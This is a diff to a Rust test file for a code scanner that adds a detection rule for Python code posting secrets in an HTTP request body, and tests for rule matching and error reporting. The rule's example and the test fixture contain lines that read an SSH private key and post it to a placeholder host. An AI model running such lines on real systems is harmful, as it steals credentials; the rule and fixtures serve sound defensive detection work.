@@ -133,6 +133,64 @@ fn broken_rule_file_is_located() {
     );
 }
 
+const PATTERN_RULE: &str = r#"id = "post-of-secret"
+name = "A secret is the body of a POST"
+kind = "threat"
+category = "custom"
+severity = "high"
+confidence = "medium"
+summary = "requests.post sends data read from a credential file or the environment"
+[docs]
+what = "The `data` of requests.post carries a secret."
+why = "Exfiltration."
+example = "import requests\nrequests.post('http://example.invalid/', data=open('/root/.ssh/id_rsa').read())"
+[match]
+pattern = "requests.post(..., data=$D)"
+where.D = { flow = ["secret", "env"] }
+"#;
+
+#[test]
+fn code_pattern_rules_match_resolved_calls_and_report_errors_in_the_pattern() {
+    let dir = tmpdir("pattern-rules");
+    std::fs::write(dir.join("post-of-secret.toml"), PATTERN_RULE).unwrap();
+    std::fs::create_dir_all(dir.join("post-of-secret")).unwrap();
+    // Aliased import, the secret through a variable; near misses: a constant body, the secret
+    // in another keyword, a different callee.
+    std::fs::write(
+        dir.join("post-of-secret/mod.py"),
+        "import os\nimport requests as r\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
+         # ruleid: post-of-secret\nr.post('http://example.invalid/', data=key)\n\
+         # ok: post-of-secret\nr.post('http://example.invalid/', data='hello')\n\
+         # ok: post-of-secret\nr.post('http://example.invalid/', json=key)\n\
+         # ok: post-of-secret\nr.put('http://example.invalid/', data=key)\n",
+    )
+    .unwrap();
+    let out = ferret(&["rules", "test", dir.to_str().unwrap()]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    assert!(text.contains("1 passed, 0 failed"), "{text}");
+
+    let bad = PATTERN_RULE.replace("data=$D)", "data=$d)");
+    std::fs::write(dir.join("post-of-secret.toml"), bad).unwrap();
+    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    // Line 13, the column of the `$` inside the pattern string.
+    assert!(
+        err.contains("error[R011]") && err.contains(":13:36"),
+        "{err}"
+    );
+
+    let bad = PATTERN_RULE.replace("where.D", "where.E");
+    std::fs::write(dir.join("post-of-secret.toml"), bad).unwrap();
+    let out = ferret(&["rules", "check", dir.to_str().unwrap()]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("no metavariable `$E`") && err.contains(":14:11"),
+        "{err}"
+    );
+}
+
 #[test]
 fn explain_prints_the_docs() {
     let out = ferret(&["rules", "explain", "exec-decoded-payload"]);
